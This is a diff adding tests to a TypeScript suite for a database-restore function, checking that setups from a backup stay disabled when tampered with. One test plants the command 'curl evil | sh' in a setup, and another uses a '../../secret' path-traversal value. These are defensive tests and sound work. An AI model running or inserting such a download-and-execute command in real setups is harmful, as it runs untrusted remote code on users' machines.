@@ -67,6 +67,10 @@ const ODD: Record<string, [sql: string, message: RegExp]> = {
     'PRAGMA foreign_keys = OFF; DELETE FROM project_sessions',
     /a row of tasks refers to a missing row/,
   ],
+  'a setup that is none': [
+    `UPDATE project_setups SET setup = '{"copy":["../../secret"]}'`,
+    /project_setups\.setup contains a value/,
+  ],
   'numbers that are used up': [
     "UPDATE sqlite_sequence SET seq = 9223372036854775806 WHERE name = 'events'",
     /events counts to 9223372036854775806/,
@@ -123,6 +127,26 @@ it('KE24 alerts of a backup are off and listed, unless the replaced database had
   );
   const other = restoreDatabase({ home: backup.home, file: backup.file, at: AT });
   expect(other.alerts_off.map(({ to }) => to)).toEqual(['/bin/other', 'https://example.org']);
+});
+
+it('WT65 setups of a backup are off, unless the replaced database had the same', () => {
+  using backup = new ForeignBackup();
+  backup.fill();
+  const restore = () => restoreDatabase({ home: backup.home, file: backup.file, at: AT });
+  restore();
+  const database = join(backup.home, 'loopwatch.db');
+  const isOn = 'SELECT is_on FROM project_setups';
+  expect(readDatabase(database, isOn)).toEqual([0]);
+  // A person set it again: this machine has confirmed it, and the same backup leaves it on.
+  writeDatabase(database, 'UPDATE project_setups SET is_on = 1');
+  restore();
+  expect(readDatabase(database, isOn)).toEqual([1]);
+  writeDatabase(
+    backup.file,
+    `UPDATE project_setups SET setup = replace(setup, 'npm ci', 'curl evil | sh')`,
+  );
+  restore();
+  expect(readDatabase(database, isOn)).toEqual([0]);
 });
 
 it('KE15, KE25 nothing that was pending in a backup is sent, opened, closed or removed', () => {
